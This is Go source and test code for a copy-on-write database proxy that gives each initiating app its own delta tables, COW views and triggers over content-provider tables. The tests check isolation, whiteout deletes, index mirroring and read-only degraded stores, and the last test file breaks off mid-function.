// layer (§5.2): unilateral per-row, per-initiator copy-on-write for
// content-provider databases.
//
// For each primary table t and initiator A, the proxy maintains on
// demand:
//
//   - a delta table t_delta_<A> with all of t's columns plus a boolean
//     _whiteout column (Vol(A));
//   - a COW view t_view_<A>, the UNION ALL SQL view of Figure 6, with
//     INSTEAD OF UPDATE/DELETE triggers that confine modifications to
//     the delta table;
//   - for every registered user-defined SQL view, a per-initiator COW
//     view defined identically but with base tables (and nested views)
//     replaced by their COW counterparts, maintained as a hierarchy;
//   - an administrative view t_admin containing primary and all delta
//     rows with an _origin column, used by active providers (Downloads,
//     Media) that must track which state a record belongs to.
//
// Delegate inserts go straight into the delta table with primary keys
// allocated from DeltaKeyBase upward to avoid collisions with primary
// keys (the paper's "large number N").
package cowproxy

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
	"sync/atomic"

	"maxoid/internal/fault"
	"maxoid/internal/sqldb"
)

// faultSynth covers COW view synthesis (see internal/fault): the
// multi-statement creation of a delta table, COW view, and INSTEAD OF
// triggers. A failure at any step rolls the created objects back, so
// an initiator's COW machinery exists either completely or not at all
// — the all-or-nothing invariant internal/chaos checks.
var faultSynth = fault.Declare("cowproxy.synth", "COW view synthesis: fail partway through delta/view/trigger creation; rollback must leave no partial machinery")

// DeltaKeyBase is the first primary key used for rows inserted by
// delegates, the paper's N (Figure 6 shows 10000001).
const DeltaKeyBase = 10000001

// ErrUnknownTable is returned for operations on unregistered tables.
var ErrUnknownTable = errors.New("cowproxy: unknown table or view")

// Proxy wraps one content provider's database.
type Proxy struct {
	db *sqldb.DB

	mu        sync.Mutex
	primaries map[string]primaryInfo  // lowercase table name
	userViews map[string]userViewInfo // lowercase view name
	viewOrder []string                // registration order (hierarchy)
	// deltas[table][initiator] records which delta tables exist.
	deltas map[string]map[string]bool
	// cowViews[name][initiator] records which COW views exist (for both
	// primary tables and user-defined views).
	cowViews map[string]map[string]bool

	// conns memoizes one Conn per initiator so its resolved-target
	// caches persist across calls; gen invalidates those caches when
	// volatile state is discarded (COW views/deltas dropped).
	conns map[string]*Conn
	gen   atomic.Int64

	// haveRegistry memoizes that the durable _cow_registry table exists
	// (see registry.go).
	haveRegistry bool
}

type primaryInfo struct {
	name string
	cols []sqldb.ColumnDef
	pk   string // primary key column name
}

type userViewInfo struct {
	name string
	sql  string // definition SELECT
	deps []string
}

// New wraps db. Tables and views the provider defines must be
// registered through RegisterTable / RegisterUserView.
func New(db *sqldb.DB) *Proxy {
	return &Proxy{
		db:        db,
		primaries: make(map[string]primaryInfo),
		userViews: make(map[string]userViewInfo),
		deltas:    make(map[string]map[string]bool),
		cowViews:  make(map[string]map[string]bool),
	}
}

// DB exposes the underlying database for provider administrative code.
func (p *Proxy) DB() *sqldb.DB { return p.db }

// RegisterTable declares an existing base table as a primary table
// managed by the proxy. The table must have an INTEGER PRIMARY KEY.
func (p *Proxy) RegisterTable(name string) error {
	cols, ok := p.db.TableColumns(name)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownTable, name)
	}
	pk := ""
	for _, c := range cols {
		if c.PrimaryKey {
			pk = c.Name
		}
	}
	if pk == "" {
		return fmt.Errorf("cowproxy: primary table %s needs a PRIMARY KEY column", name)
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	p.primaries[strings.ToLower(name)] = primaryInfo{name: name, cols: cols, pk: pk}
	return nil
}

// RegisterUserView declares a user-defined SQL view (by its definition
// SELECT). The view is created in the database, and per-initiator COW
// views over it are derived on demand. Views may reference primary
// tables and previously registered views, forming a hierarchy.
func (p *Proxy) RegisterUserView(name, selectSQL string) error {
	deps, err := sqldb.SelectTables(selectSQL)
	if err != nil {
		return err
	}
	p.mu.Lock()
	defer p.mu.Unlock()
	for _, d := range deps {
		key := strings.ToLower(d)
		if _, isTable := p.primaries[key]; isTable {
			continue
		}
		if _, isView := p.userViews[key]; isView {
			continue
		}
		return fmt.Errorf("cowproxy: view %s references unregistered %s", name, d)
	}
	if _, err := p.db.Exec("CREATE VIEW IF NOT EXISTS " + name + " AS " + selectSQL); err != nil {
		return err
	}
	key := strings.ToLower(name)
	if _, exists := p.userViews[key]; !exists {
		p.viewOrder = append(p.viewOrder, key)
	}
	p.userViews[key] = userViewInfo{name: name, sql: selectSQL, deps: deps}
	return nil
}

// sanitize turns an initiator package name into an identifier fragment.
func sanitize(initiator string) string {
	var b strings.Builder
	for _, r := range initiator {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9', r == '_':
			b.WriteRune(r)
		default:
			b.WriteRune('_')
		}
	}
	return b.String()
}

// DeltaTableName returns the delta table name for (table, initiator).
func DeltaTableName(table, initiator string) string {
	return table + "_delta_" + sanitize(initiator)
}

// COWViewName returns the COW view name for (table-or-view, initiator).
func COWViewName(name, initiator string) string {
	return name + "_view_" + sanitize(initiator)
}

// adminViewName returns the administrative view name for a table.
func adminViewName(table string) string { return table + "_admin" }

// ensureDelta creates A's delta table, COW view, and triggers for a
// primary table if they do not exist yet ("created on demand"). The
// caller must hold p.mu.
//
// Synthesis is all-or-nothing: a failure at any of the five steps
// rolls back every object the failed attempt created (and restores
// the admin view), so observers never see a delta table without its
// COW view or vice versa.
func (p *Proxy) ensureDelta(info primaryInfo, initiator string) error {
	key := strings.ToLower(info.name)
	if p.deltas[key] == nil {
		p.deltas[key] = make(map[string]bool)
	}
	if p.deltas[key][initiator] {
		return nil
	}

	delta := DeltaTableName(info.name, initiator)
	cowView := COWViewName(info.name, initiator)

	rollback := func(err error) error {
		// Cleanup of a failed synthesis must not itself be re-injected
		// (see fault.Suspend). DROP VIEW removes its triggers with it.
		fault.Suspend()
		defer fault.Resume()
		delete(p.deltas[key], initiator)
		if p.cowViews[key] != nil {
			delete(p.cowViews[key], initiator)
		}
		p.registryRemove(info.name, initiator, registryKindDelta)
		_, _ = p.db.Exec("DROP VIEW IF EXISTS " + cowView)
		_, _ = p.db.Exec("DROP TABLE IF EXISTS " + delta)
		_ = p.rebuildAdminView(info)
		return err
	}
	if err := p.synthDelta(info, delta, cowView); err != nil {
		return rollback(err)
	}
	// The registry row lands after the DDL in the journal: a recovered
	// prefix containing the row therefore contains the whole synthesis
	// (AdoptRecovered drops the registered-less remainder otherwise).
	if err := p.registryAdd(info.name, initiator, registryKindDelta); err != nil {
		return rollback(err)
	}

	p.deltas[key][initiator] = true
	if p.cowViews[key] == nil {
		p.cowViews[key] = make(map[string]bool)
	}
	p.cowViews[key][initiator] = true

	// The administrative view covers all deltas; rebuild it.
	if err := p.rebuildAdminView(info); err != nil {
		return rollback(err)
	}
	return nil
}

// synthDelta runs the multi-statement synthesis for ensureDelta. Each
// step consults the cowproxy.synth fault point, so a harness can kill
// the synthesis between any two statements.
func (p *Proxy) synthDelta(info primaryInfo, delta, cowView string) error {
	// Delta table: all primary columns plus _whiteout.
	var ddl strings.Builder
	ddl.WriteString("CREATE TABLE " + delta + " (")
	colNames := make([]string, 0, len(info.cols))
	for i, c := range info.cols {
		if i > 0 {
			ddl.WriteString(", ")
		}
		ddl.WriteString(c.Name)
		if c.Type != "" {
			ddl.WriteString(" " + c.Type)
		}
		if c.PrimaryKey {
			ddl.WriteString(" PRIMARY KEY")
		}
		colNames = append(colNames, c.Name)
	}
	ddl.WriteString(", _whiteout BOOLEAN DEFAULT 0)")
	if err := fault.Hit(faultSynth); err != nil {
		return err
	}
	if _, err := p.db.Exec(ddl.String()); err != nil {
		return err
	}
	// Seed the delta table's key allocator at N (the paper's large
	// starting number) by inserting and deleting a marker row: new
	// delegate inserts then auto-increment from DeltaKeyBase without a
	// MAX() scan.
	marker := fmt.Sprintf("INSERT INTO %s (%s, _whiteout) VALUES (%d, 1); DELETE FROM %s WHERE %s = %d",
		delta, info.pk, DeltaKeyBase-1, delta, info.pk, DeltaKeyBase-1)
	if err := fault.Hit(faultSynth); err != nil {
		return err
	}
	if _, err := p.db.Exec(marker); err != nil {
		return err
	}

	// Mirror the primary table's secondary indexes onto the delta
	// table: the COW view's delta arm sees the same workload as the
	// primary arm, so an index worth having on one is worth having on
	// the other. A failure here aborts the synthesis; the rollback's
	// DROP TABLE removes any indexes already mirrored.
	if infos, ok := p.db.TableIndexes(info.name); ok {
		for i, ix := range infos {
			using := ""
			if ix.Kind == "HASH" {
				using = " USING HASH"
			}
			ddl := fmt.Sprintf("CREATE INDEX %s_mx%d ON %s (%s)%s",
				delta, i, delta, strings.Join(ix.Columns, ", "), using)
			if err := fault.Hit(faultSynth); err != nil {
				return err
			}
			if _, err := p.db.Exec(ddl); err != nil {
				return err
			}
		}
	}

	cols := strings.Join(colNames, ", ")
	// COW view per Figure 6.
	viewSQL := fmt.Sprintf(
		"CREATE VIEW %s AS SELECT %s FROM %s WHERE %s NOT IN (SELECT %s FROM %s) UNION ALL SELECT %s FROM %s WHERE _whiteout = 0",
		cowView, cols, info.name, info.pk, info.pk, delta, cols, delta)
	if err := fault.Hit(faultSynth); err != nil {
		return err
	}
	if _, err := p.db.Exec(viewSQL); err != nil {
		return err
	}

	// INSTEAD OF triggers implementing per-row copy-on-write.
	newCols := make([]string, len(colNames))
	for i, c := range colNames {
		newCols[i] = "new." + c
	}
	updTrig := fmt.Sprintf(
		"CREATE TRIGGER %s_upd INSTEAD OF UPDATE ON %s BEGIN INSERT OR REPLACE INTO %s (%s, _whiteout) VALUES (%s, 0); END",
		cowView, cowView, delta, cols, strings.Join(newCols, ", "))
	if err := fault.Hit(faultSynth); err != nil {
		return err
	}
	if _, err := p.db.Exec(updTrig); err != nil {
		return err
	}
	// Deleting emulates a deletion with a whiteout record; only the key
	// matters, other columns keep the old values for diagnostics.
	oldCols := make([]string, len(colNames))
	for i, c := range colNames {
		oldCols[i] = "old." + c
	}
	delTrig := fmt.Sprintf(
		"CREATE TRIGGER %s_del INSTEAD OF DELETE ON %s BEGIN INSERT OR REPLACE INTO %s (%s, _whiteout) VALUES (%s, 1); END",
		cowView, cowView, delta, cols, strings.Join(oldCols, ", "))
	if err := fault.Hit(faultSynth); err != nil {
		return err
	}
	if _, err := p.db.Exec(delTrig); err != nil {
		return err
	}
	return nil
}

// rebuildAdminView recreates t_admin over the primary table and all
// existing delta tables. The caller must hold p.mu.
func (p *Proxy) rebuildAdminView(info primaryInfo) error {
	key := strings.ToLower(info.name)
	admin := adminViewName(info.name)
	if _, err := p.db.Exec("DROP VIEW IF EXISTS " + admin); err != nil {
		return err
	}
	colNames := make([]string, len(info.cols))
	for i, c := range info.cols {
		colNames[i] = c.Name
	}
	cols := strings.Join(colNames, ", ")
	var arms []string
	arms = append(arms, fmt.Sprintf("SELECT %s, '' AS _origin, 0 AS _whiteout FROM %s", cols, info.name))
	initiators := make([]string, 0, len(p.deltas[key]))
	for init := range p.deltas[key] {
		initiators = append(initiators, init)
	}
	sort.Strings(initiators)
	for _, init := range initiators {
		arms = append(arms, fmt.Sprintf("SELECT %s, '%s' AS _origin, _whiteout FROM %s",
			cols, strings.ReplaceAll(init, "'", "''"), DeltaTableName(info.name, init)))
	}
	_, err := p.db.Exec("CREATE VIEW " + admin + " AS " + strings.Join(arms, " UNION ALL "))
	return err
}

// ensureUserViewCOW creates the per-initiator COW view for a registered
// user-defined view, first ensuring COW views for everything it depends
// on (the hierarchy of Figure 5). The caller must hold p.mu.
func (p *Proxy) ensureUserViewCOW(v userViewInfo, initiator string) error {
	key := strings.ToLower(v.name)
	if p.cowViews[key] == nil {
		p.cowViews[key] = make(map[string]bool)
	}
	if p.cowViews[key][initiator] {
		return nil
	}
	for _, dep := range v.deps {
		depKey := strings.ToLower(dep)
		if info, ok := p.primaries[depKey]; ok {
			if err := p.ensureDelta(info, initiator); err != nil {
				return err
			}
			continue
		}
		if uv, ok := p.userViews[depKey]; ok {
			if err := p.ensureUserViewCOW(uv, initiator); err != nil {
				return err
			}
		}
	}
	rewritten, err := sqldb.RewriteTables(v.sql, func(name string) string {
		return COWViewName(name, initiator)
	})
	if err != nil {
		return err
	}
	if err := fault.Hit(faultSynth); err != nil {
		return err
	}
	if _, err := p.db.Exec("CREATE VIEW " + COWViewName(v.name, initiator) + " AS " + rewritten); err != nil {
		return err
	}
	if err := p.registryAdd(v.name, initiator, registryKindView); err != nil {
		fault.Suspend()
		_, _ = p.db.Exec("DROP VIEW IF EXISTS " + COWViewName(v.name, initiator))
		fault.Resume()
		return err
	}
	p.cowViews[key][initiator] = true
	return nil
}

// HasDelta reports whether a delta table exists for (table, initiator).
func (p *Proxy) HasDelta(table, initiator string) bool {
	p.mu.Lock()
	defer p.mu.Unlock()
	return p.deltas[strings.ToLower(table)][initiator]
}

// Stats is a snapshot of the proxy's per-initiator COW machinery — the
// leak counters the lifecycle chaos engine compares against baseline.
type Stats struct {
	DeltaTables int // live t_delta_<A> tables across all primaries
	COWViews    int // live t_view_<A> views across tables and user views
}

// Stats counts the live delta tables and COW views.
func (p *Proxy) Stats() Stats {
	p.mu.Lock()
	defer p.mu.Unlock()
	var s Stats
	for _, m := range p.deltas {
		s.DeltaTables += len(m)
	}
	for _, m := range p.cowViews {
		s.COWViews += len(m)
	}
	return s
}

// Initiators returns the initiators that currently have volatile state
// in any registered table.
func (p *Proxy) Initiators() []string {
	p.mu.Lock()
	defer p.mu.Unlock()
	set := map[string]bool{}
	for _, m := range p.deltas {
		for init := range m {
			set[init] = true
		}
	}
	out := make([]string, 0, len(set))
	for init := range set {
		out = append(out, init)
	}
	sort.Strings(out)
	return out
}

// DiscardVolatile drops all of initiator's delta tables and COW views
// across all registered tables and user views — the "clear Vol(A)"
// operation (§3.3 commit and clean-up, §6.3 Clear-Vol).
func (p *Proxy) DiscardVolatile(initiator string) error {
	p.mu.Lock()
	defer p.mu.Unlock()
	// Cached Conn targets may name the views/tables dropped below.
	p.gen.Add(1)
	// Drop user-view COW views first (they depend on table COW views),
	// in reverse registration order.
	for i := len(p.viewOrder) - 1; i >= 0; i-- {
		key := p.viewOrder[i]
		if p.cowViews[key][initiator] {
			v := p.userViews[key]
			if _, err := p.db.Exec("DROP VIEW IF EXISTS " + COWViewName(v.name, initiator)); err != nil {
				return err
			}
			delete(p.cowViews[key], initiator)
		}
	}
	for key, info := range p.primaries {
		if !p.deltas[key][initiator] {
			continue
		}
		if _, err := p.db.Exec("DROP VIEW IF EXISTS " + COWViewName(info.name, initiator)); err != nil {
			return err
		}
		if _, err := p.db.Exec("DROP TABLE IF EXISTS " + DeltaTableName(info.name, initiator)); err != nil {
			return err
		}
		delete(p.deltas[key], initiator)
		delete(p.cowViews[key], initiator)
		if err := p.rebuildAdminView(info); err != nil {
			return err
		}
	}
	p.registryDiscard(initiator)
	return nil
}
