package cowproxy

import (
	"fmt"
	"math/rand"
	"testing"
	"testing/quick"

	"maxoid/internal/sqldb"
)

// modelRow is one row in the reference model.
type modelRow struct {
	word string
	gone bool // whiteout in a delegate view
}

// proxyModel tracks what each view of the words table should contain:
// the public view plus one view per initiator.
type proxyModel struct {
	public map[int64]string
	views  map[string]map[int64]modelRow // initiator -> id -> row
}

// viewOf computes the expected merged view for an initiator.
func (m *proxyModel) viewOf(initiator string) map[int64]string {
	out := make(map[int64]string)
	delta := m.views[initiator]
	for id, w := range m.public {
		if _, shadowed := delta[id]; !shadowed {
			out[id] = w
		}
	}
	for id, r := range delta {
		if !r.gone {
			out[id] = r.word
		}
	}
	return out
}

// TestPropMultiInitiatorViews drives random operations from the public
// connection and two delegate connections against the proxy and a
// reference model, checking after each step that all three views match
// and that delta state never crosses initiators.
func TestPropMultiInitiatorViews(t *testing.T) {
	initiators := []string{"alpha", "beta"}
	prop := func(seed int64) bool {
		r := rand.New(rand.NewSource(seed))
		db := sqldb.Open()
		if _, err := db.Exec("CREATE TABLE words (_id INTEGER PRIMARY KEY, word TEXT)"); err != nil {
			return false
		}
		p := New(db)
		if err := p.RegisterTable("words"); err != nil {
			return false
		}
		pub := p.For("")
		conns := map[string]*Conn{"": pub}
		for _, init := range initiators {
			conns[init] = p.For(init)
		}
		model := &proxyModel{
			public: make(map[int64]string),
			views: map[string]map[int64]modelRow{
				"alpha": {}, "beta": {},
			},
		}
		nextDeltaID := map[string]int64{"alpha": DeltaKeyBase, "beta": DeltaKeyBase}

		check := func(step int) bool {
			// Public view.
			rows, err := pub.Query("words", []string{"_id", "word"}, "", "")
			if err != nil {
				t.Logf("step %d public query: %v", step, err)
				return false
			}
			if len(rows.Data) != len(model.public) {
				t.Logf("step %d public rows = %d, want %d", step, len(rows.Data), len(model.public))
				return false
			}
			for _, row := range rows.Data {
				id, _ := sqldb.AsInt(row[0])
				if model.public[id] != sqldb.AsString(row[1]) {
					t.Logf("step %d public row %d mismatch", step, id)
					return false
				}
			}
			// Each initiator's merged view.
			for _, init := range initiators {
				want := model.viewOf(init)
				rows, err := conns[init].Query("words", []string{"_id", "word"}, "", "")
				if err != nil {
					t.Logf("step %d %s query: %v", step, init, err)
					return false
				}
				if len(rows.Data) != len(want) {
					t.Logf("step %d %s rows = %d, want %d", step, init, len(rows.Data), len(want))
					return false
				}
				for _, row := range rows.Data {
					id, _ := sqldb.AsInt(row[0])
					if want[id] != sqldb.AsString(row[1]) {
						t.Logf("step %d %s row %d = %q, want %q", step, init, id, sqldb.AsString(row[1]), want[id])
						return false
					}
				}
			}
			return true
		}

		for step := 0; step < 40; step++ {
			who := []string{"", "alpha", "beta"}[r.Intn(3)]
			conn := conns[who]
			word := fmt.Sprintf("w%d", r.Intn(1000))
			switch r.Intn(3) {
			case 0: // insert
				id, err := conn.Insert("words", map[string]sqldb.Value{"word": word})
				if err != nil {
					t.Logf("insert: %v", err)
					return false
				}
				if who == "" {
					model.public[id] = word
				} else {
					if id != nextDeltaID[who] {
						t.Logf("delta id = %d, want %d", id, nextDeltaID[who])
						return false
					}
					nextDeltaID[who]++
					model.views[who][id] = modelRow{word: word}
				}
			case 1: // update an id visible in the actor's view
				ids := visibleIDs(model, who)
				if len(ids) == 0 {
					continue
				}
				id := ids[r.Intn(len(ids))]
				if _, err := conn.Update("words", map[string]sqldb.Value{"word": word}, "_id = ?", id); err != nil {
					t.Logf("update: %v", err)
					return false
				}
				if who == "" {
					model.public[id] = word
				} else {
					model.views[who][id] = modelRow{word: word}
				}
			case 2: // delete an id visible in the actor's view
				ids := visibleIDs(model, who)
				if len(ids) == 0 {
					continue
				}
				id := ids[r.Intn(len(ids))]
				if _, err := conn.Delete("words", "_id = ?", id); err != nil {
					t.Logf("delete: %v", err)
					return false
				}
				if who == "" {
					delete(model.public, id)
				} else {
					model.views[who][id] = modelRow{gone: true}
				}
			}
			if !check(step) {
				return false
			}
		}
		return true
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 15}); err != nil {
		t.Error(err)
	}
}

func visibleIDs(m *proxyModel, who string) []int64 {
	var view map[int64]string
	if who == "" {
		view = m.public
	} else {
		view = m.viewOf(who)
	}
	out := make([]int64, 0, len(view))
	for id := range view {
		out = append(out, id)
	}
	return out
}
