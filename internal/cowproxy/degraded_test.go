package cowproxy

import (
	"errors"
	"testing"

	"maxoid/internal/health"
	"maxoid/internal/sqldb"
)

// gatedJournal is a statement journal backed by a degraded store: the
// write gate rejects every mutating batch with the typed read-only
// error while committed units (there should be none) are accepted.
type gatedJournal struct {
	committed int
}

func (j *gatedJournal) Commit(sqldb.JournalUnit) error { j.committed++; return nil }
func (j *gatedJournal) WriteGate() error               { return health.ErrReadOnly }

// TestDegradedStoreGatesDelegateWrites drives the COW proxy over a
// database whose journal reports a degraded (read-only) store: every
// write — initiator or delegate — is rejected with health.ErrReadOnly
// BEFORE any table mutates, so neither the primary table nor the
// delegate's delta changes, confinement structures stay consistent,
// and reads on both sides keep serving.
func TestDegradedStoreGatesDelegateWrites(t *testing.T) {
	p := newWordsProxy(t, 3)
	del := p.For("email")
	// Materialize the delta while healthy so the degraded delegate has
	// existing COW state worth protecting.
	if _, err := del.Update("words", map[string]sqldb.Value{"word": "EDITED"}, "_id = ?", 2); err != nil {
		t.Fatal(err)
	}

	j := &gatedJournal{}
	p.DB().SetJournal(j)
	defer p.DB().SetJournal(nil)

	// Delegate writes: rejected typed, no redirect into base state.
	if _, err := del.Insert("words", map[string]sqldb.Value{"word": "degraded"}); !errors.Is(err, health.ErrReadOnly) {
		t.Fatalf("degraded delegate insert err = %v, want ErrReadOnly", err)
	}
	if _, err := del.Update("words", map[string]sqldb.Value{"word": "X"}, "_id = ?", 1); !errors.Is(err, health.ErrReadOnly) {
		t.Fatalf("degraded delegate update err = %v, want ErrReadOnly", err)
	}
	if _, err := del.Delete("words", "_id = ?", 3); !errors.Is(err, health.ErrReadOnly) {
		t.Fatalf("degraded delegate delete err = %v, want ErrReadOnly", err)
	}
	// Initiator writes are gated identically.
	if _, err := p.For("").Insert("words", map[string]sqldb.Value{"word": "pub"}); !errors.Is(err, health.ErrReadOnly) {
		t.Fatalf("degraded initiator insert err = %v, want ErrReadOnly", err)
	}

	// Nothing mutated and nothing was journaled: the gate fires before
	// statements execute.
	if n, _ := p.DB().QueryScalar("SELECT COUNT(*) FROM words"); n != int64(3) {
		t.Errorf("primary count after degraded writes = %v, want 3", n)
	}
	if j.committed != 0 {
		t.Errorf("%d units journaled through a closed gate", j.committed)
	}

	// Reads keep serving on both sides; the delegate still sees its
	// pre-degradation COW view.
	rows, err := del.Query("words", []string{"word"}, "_id = ?", "", 2)
	if err != nil || len(rows.Data) != 1 || rows.Data[0][0] != "EDITED" {
		t.Fatalf("degraded delegate view: %v, %v", rows, err)
	}
	if rows, err := p.For("").Query("words", []string{"_id"}, "", "_id"); err != nil || len(rows.Data) != 3 {
		t.Fatalf("degraded initiator read: %v, %v", rows, err)
	}

	// Store heals: the gate lifts and delegate writes flow again, into
	// the delta as ever — never the primary table.
	p.DB().SetJournal(nil)
	if _, err := del.Insert("words", map[string]sqldb.Value{"word": "healed"}); err != nil {
		t.Fatalf("insert after heal: %v", err)
	}
	if n, _ := p.DB().QueryScalar("SELECT COUNT(*) FROM words"); n != int64(3) {
		t.Errorf("primary count after healed delegate insert = %v, want 3", n)
	}
}
