package cowproxy

import (
	"testing"

	"maxoid/internal/sqldb"
)

// TestDeltaMirrorsBaseIndexes: synthesizing an initiator's delta table
// copies the primary table's secondary indexes onto it, kind and
// columns included, so the COW view's delta arm probes the same way
// the primary arm does.
func TestDeltaMirrorsBaseIndexes(t *testing.T) {
	db := sqldb.Open()
	if _, err := db.Exec("CREATE TABLE words (_id INTEGER PRIMARY KEY, word TEXT, frequency INTEGER)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("CREATE INDEX words_by_word ON words (word) USING HASH; CREATE INDEX words_by_freq ON words (frequency)"); err != nil {
		t.Fatal(err)
	}
	p := New(db)
	if err := p.RegisterTable("words"); err != nil {
		t.Fatal(err)
	}
	pub := p.For("")
	for i := 0; i < 10; i++ {
		if _, err := pub.Insert("words", map[string]sqldb.Value{
			"word": "w" + string(rune('a'+i)), "frequency": int64(i),
		}); err != nil {
			t.Fatal(err)
		}
	}

	// First delegate write synthesizes the delta machinery.
	del := p.For("email")
	if _, err := del.Update("words", map[string]sqldb.Value{"frequency": int64(99)}, "_id = ?", 3); err != nil {
		t.Fatal(err)
	}

	delta := DeltaTableName("words", "email")
	infos, ok := db.TableIndexes(delta)
	if !ok {
		t.Fatalf("delta table %s missing", delta)
	}
	if len(infos) != 2 {
		t.Fatalf("want 2 mirrored indexes on %s, got %+v", delta, infos)
	}
	kinds := map[string]string{}
	for _, ix := range infos {
		kinds[ix.Columns[0]] = ix.Kind
	}
	if kinds["word"] != "HASH" || kinds["frequency"] != "ORDERED" {
		t.Fatalf("mirrored index kinds wrong: %v", kinds)
	}
	// The mirrored indexes must stay consistent through COW traffic
	// (insert via view trigger, whiteout via delete).
	if _, err := del.Insert("words", map[string]sqldb.Value{"word": "zz", "frequency": int64(7)}); err != nil {
		t.Fatal(err)
	}
	if _, err := del.Delete("words", "_id = ?", 5); err != nil {
		t.Fatal(err)
	}
	if err := db.CheckIndexes(); err != nil {
		t.Fatalf("delta index consistency: %v", err)
	}
	// Volatile discard drops the delta and its indexes with it.
	if err := p.DiscardVolatile("email"); err != nil {
		t.Fatal(err)
	}
	if _, ok := db.TableIndexes(delta); ok {
		t.Fatalf("delta table %s survived DiscardVolatile", delta)
	}
}
