package cowproxy

import (
	"testing"

	"maxoid/internal/sqldb"
)

// newWordsProxy builds a User-Dictionary-shaped proxy with n rows.
func newWordsProxy(t *testing.T, n int) *Proxy {
	t.Helper()
	db := sqldb.Open()
	if _, err := db.Exec("CREATE TABLE words (_id INTEGER PRIMARY KEY, word TEXT, frequency INTEGER)"); err != nil {
		t.Fatal(err)
	}
	p := New(db)
	if err := p.RegisterTable("words"); err != nil {
		t.Fatal(err)
	}
	pub := p.For("")
	for i := 0; i < n; i++ {
		if _, err := pub.Insert("words", map[string]sqldb.Value{
			"word": "w" + string(rune('a'+i%26)), "frequency": int64(i),
		}); err != nil {
			t.Fatal(err)
		}
	}
	return p
}

func TestInitiatorOperatesOnPrimary(t *testing.T) {
	p := newWordsProxy(t, 3)
	pub := p.For("")
	rows, err := pub.Query("words", []string{"_id", "word"}, "", "_id")
	if err != nil || len(rows.Data) != 3 {
		t.Fatalf("query: %v, %v", rows, err)
	}
	if _, err := pub.Update("words", map[string]sqldb.Value{"frequency": int64(99)}, "_id = ?", 1); err != nil {
		t.Fatal(err)
	}
	v, _ := p.DB().QueryScalar("SELECT frequency FROM words WHERE _id = 1")
	if v != int64(99) {
		t.Errorf("primary update: %v", v)
	}
	if p.HasDelta("words", "") {
		t.Error("initiator ops should not create deltas")
	}
}

func TestDelegateCopyOnWriteUpdate(t *testing.T) {
	p := newWordsProxy(t, 3)
	del := p.For("email")

	n, err := del.Update("words", map[string]sqldb.Value{"word": "EDITED"}, "_id = ?", 2)
	if err != nil || n != 1 {
		t.Fatalf("delegate update: %d, %v", n, err)
	}
	// Primary table untouched (S2).
	v, _ := p.DB().QueryScalar("SELECT word FROM words WHERE _id = 2")
	if v == "EDITED" {
		t.Error("delegate update mutated primary table")
	}
	// Delegate reads its own write with the original name (U3).
	rows, err := del.Query("words", []string{"word"}, "_id = ?", "", 2)
	if err != nil || len(rows.Data) != 1 || rows.Data[0][0] != "EDITED" {
		t.Errorf("delegate view: %v, %v", rows, err)
	}
	// Delta exists for the initiator.
	if !p.HasDelta("words", "email") {
		t.Error("delta not created on demand")
	}
}

func TestDelegateDeleteIsWhiteout(t *testing.T) {
	p := newWordsProxy(t, 3)
	del := p.For("email")
	if _, err := del.Delete("words", "_id = ?", 1); err != nil {
		t.Fatal(err)
	}
	// Gone from the delegate's view.
	rows, _ := del.Query("words", []string{"_id"}, "", "_id")
	if len(rows.Data) != 2 {
		t.Errorf("delegate sees %d rows, want 2", len(rows.Data))
	}
	// Still in the primary table.
	n, _ := p.DB().QueryScalar("SELECT COUNT(*) FROM words")
	if n != int64(3) {
		t.Errorf("primary count = %v, want 3", n)
	}
	// Volatile state records the whiteout.
	vol, err := p.For("").QueryVolatile("words", "email", "_whiteout = 1")
	if err != nil || len(vol.Data) != 1 {
		t.Errorf("whiteout records: %v, %v", vol, err)
	}
}

func TestDelegateInsertKeysStartAtN(t *testing.T) {
	p := newWordsProxy(t, 3)
	del := p.For("email")
	id, err := del.Insert("words", map[string]sqldb.Value{"word": "new", "frequency": int64(1)})
	if err != nil {
		t.Fatal(err)
	}
	if id != DeltaKeyBase {
		t.Errorf("first delegate insert id = %d, want %d", id, DeltaKeyBase)
	}
	id2, err := del.Insert("words", map[string]sqldb.Value{"word": "new2", "frequency": int64(2)})
	if err != nil || id2 != DeltaKeyBase+1 {
		t.Errorf("second delegate insert id = %d, %v", id2, err)
	}
	// Both visible in the delegate's view alongside public rows.
	rows, _ := del.Query("words", []string{"_id"}, "", "_id")
	if len(rows.Data) != 5 {
		t.Errorf("delegate view rows = %d, want 5", len(rows.Data))
	}
	// Not visible to initiators via normal names.
	n, _ := p.DB().QueryScalar("SELECT COUNT(*) FROM words")
	if n != int64(3) {
		t.Errorf("primary rows = %v, want 3", n)
	}
}

func TestPerInitiatorIsolation(t *testing.T) {
	p := newWordsProxy(t, 2)
	delA := p.For("appA")
	delB := p.For("appB")
	if _, err := delA.Update("words", map[string]sqldb.Value{"word": "forA"}, "_id = 1"); err != nil {
		t.Fatal(err)
	}
	// B's view is unaffected by A's volatile state.
	rows, _ := delB.Query("words", []string{"word"}, "_id = 1", "")
	if rows.Data[0][0] == "forA" {
		t.Error("initiator B's delegates see initiator A's volatile state")
	}
	// A's delegates all share the same view.
	delA2 := p.For("appA")
	rows, _ = delA2.Query("words", []string{"word"}, "_id = 1", "")
	if rows.Data[0][0] != "forA" {
		t.Error("same-initiator delegates do not share volatile state")
	}
}

func TestUnilateralCOW(t *testing.T) {
	// Initiator updates are visible to delegates until the delegate
	// touches that row (per-name unilateral copy-on-write, §3.3).
	p := newWordsProxy(t, 2)
	del := p.For("appA")
	pub := p.For("")

	// Delegate copies row 1 by updating it.
	if _, err := del.Update("words", map[string]sqldb.Value{"word": "mine"}, "_id = 1"); err != nil {
		t.Fatal(err)
	}
	// Initiator updates both rows.
	if _, err := pub.Update("words", map[string]sqldb.Value{"word": "theirs"}, ""); err != nil {
		t.Fatal(err)
	}
	rows, _ := del.Query("words", []string{"_id", "word"}, "", "_id")
	if rows.Data[0][1] != "mine" {
		t.Errorf("row 1 should show the volatile copy: %v", rows.Data[0])
	}
	if rows.Data[1][1] != "theirs" {
		t.Errorf("row 2 should show the initiator's update (U2): %v", rows.Data[1])
	}
}

func TestVolatileURIsAndDiscard(t *testing.T) {
	p := newWordsProxy(t, 2)
	del := p.For("appA")
	if _, err := del.Update("words", map[string]sqldb.Value{"word": "x"}, "_id = 1"); err != nil {
